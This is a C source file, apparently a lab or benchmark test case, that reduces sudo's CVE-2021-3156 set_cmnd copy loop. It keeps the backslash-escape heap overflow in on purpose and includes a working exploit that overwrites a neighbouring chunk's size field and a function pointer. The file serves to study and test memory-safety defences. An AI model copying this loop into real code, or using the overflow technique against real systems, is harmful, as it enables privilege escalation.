/* The copy loop of sudo's set_cmnd (CVE-2021-3156, "Baron Samedit"), reduced: the command
 * line is copied into a buffer sized by strlen, and a backslash makes the loop copy the
 * character after it unconditionally. An argument that ends in a backslash makes it copy the
 * argument's NUL terminator and carry on into whatever follows in memory (on a real system,
 * the environment), which the attacker controls: every string there that also ends in a
 * backslash writes one NUL byte and goes on. The buffer lives until the program exits, so
 * it is never freed. */
#include "lab.h"

struct service {
    void (*on_exit)(void);
    char name[24];
};

static void stop_normally(void) { puts("service stopped normally"); }
static void win(void) { pwned("the escaping copy replaced service->on_exit"); }

/* The bug, as in sudo 1.9.5p1: the buffer holds strlen + 1 bytes, but the loop does not stop
 * at the string's end when its last character is a backslash. */
static void copy_unescaped(char *to, const char *from) {
    while (*from) {
        if (from[0] == '\\' && from[1] != ' ' && from[1] != '\t')
            from++;
        *to++ = *from++;
    }
    *to = '\0';
}

/* Lay out the argument and, after its NUL, the attacker's "environment": the bytes to write
 * past the buffer, each zero byte written as a string that ends in a backslash. */
static void craft(char *mem, const unsigned char *payload, size_t n) {
    size_t at = 0;
    memset(mem, 'A', 22);
    at = 22;
    mem[at++] = '\\'; /* the trailing backslash: the copy runs on past the NUL */
    mem[at++] = '\0';
    for (size_t i = 0; i < n; i++) {
        if (payload[i] == 0 || payload[i] == '\\')
            mem[at++] = '\\';
        mem[at++] = (char)payload[i];
    }
    mem[at++] = '\0'; /* the end of the attacker's strings: the copy stops */
}

int main(void) {
    lab_init();
    static char line[128];
    /* On glibc the 24-byte buffer (strlen 23 + 1) sits in a 32-byte chunk and the service
     * object's chunk comes right after it: its size field 24 bytes after the buffer's start
     * (rewritten with its own value, 0x31), its first field, on_exit, 32 bytes after. The
     * copy writes 22 'A's and the argument's NUL, then the payload from byte 23. */
    unsigned char payload[17];
    uint64_t size_field = 0x31;
    void (*target)(void) = win;
    payload[0] = 'B';
    memcpy(payload + 1, &size_field, 8);
    memcpy(payload + 9, &target, 8);
    craft(line, payload, sizeof payload);
    char *cmnd = alloc_typed(strlen(line) + 1, DATA_TYPE(3));
    struct service *svc = alloc_typed(sizeof *svc, PTR_TYPE(4));
    svc->on_exit = stop_normally;
    copy_unescaped(cmnd, line); /* the bug: 41 bytes into a 24-byte buffer */
    svc->on_exit();
    free(svc);
    /* cmnd is kept until the program exits, as sudo keeps its command line. */
    noeffect("service->on_exit was not overwritten");
    return 0;
}
